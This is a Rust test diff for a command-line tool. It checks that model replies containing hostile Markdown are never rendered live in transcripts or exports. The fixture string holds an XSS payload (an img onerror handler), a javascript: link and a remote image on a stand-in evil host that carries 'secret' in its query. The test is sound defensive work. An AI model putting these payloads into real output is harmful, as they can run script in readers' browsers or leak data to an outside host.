@@ -130,3 +130,42 @@ fn piped_output_has_no_escape_codes_and_json_stays_exact() {
         .collect();
     assert!(completed.iter().any(|e| e["text"] == HOSTILE), "the events carry the exact text");
 }
+
+/// A reply whose code span opens on one line and closes on the next, with
+/// HTML, a script link and a remote image after it, and a fence it never
+/// closes: every Markdown output renders none of it live and keeps its own
+/// later sections (read by a real CommonMark renderer).
+#[test]
+fn markdown_outputs_render_no_html_from_a_span_across_lines() {
+    const SPLIT: &str = "a `b\nc` <img src=x onerror=alert(1)> `d` e `f\ng` [x](javascript:alert(1)) \
+![t](https://evil.example/p.png?q=secret) `h`\n\n```\nunclosed";
+    let mut config = Config::default();
+    for model in ["a", "judge"] {
+        config.models.insert(model.into(), ModelScript { replies: vec![SPLIT.into(); 20], ..Default::default() });
+    }
+    let server = TestServer::start(config, 0).unwrap();
+    let env = Sandbox::new("hostile", "split-span");
+    piped(&env, &server, &RUN_ARGS);
+    let session = std::fs::read_dir(env.root.join("data")).unwrap().next().unwrap().unwrap().path();
+    let mut documents =
+        vec![("transcript.md".to_string(), std::fs::read_to_string(session.join("transcript.md")).unwrap())];
+    for args in [&["show", "last"][..], &["export", "last", "--format", "md"], &["export", "last", "--format", "adr"]] {
+        documents.push((format!("{args:?}"), piped(&env, &server, args).0));
+    }
+    for (what, markdown) in &documents {
+        let mut headings = 0;
+        for event in pulldown_cmark::Parser::new_ext(markdown, pulldown_cmark::Options::all()) {
+            use pulldown_cmark::{Event, Tag};
+            match event {
+                Event::Html(h) | Event::InlineHtml(h) => panic!("{what}: raw HTML {h:?} in\n{markdown}"),
+                Event::Start(Tag::Image { dest_url, .. }) => panic!("{what}: an image of {dest_url}"),
+                Event::Start(Tag::Link { dest_url, .. }) if dest_url.contains(':') && !dest_url.starts_with("http") => {
+                    panic!("{what}: a link to {dest_url}")
+                }
+                Event::Start(Tag::Heading { .. }) => headings += 1,
+                _ => {}
+            }
+        }
+        assert!(headings >= 3, "{what}: a reply's open fence swallowed the document's headings:\n{markdown}");
+    }
+}
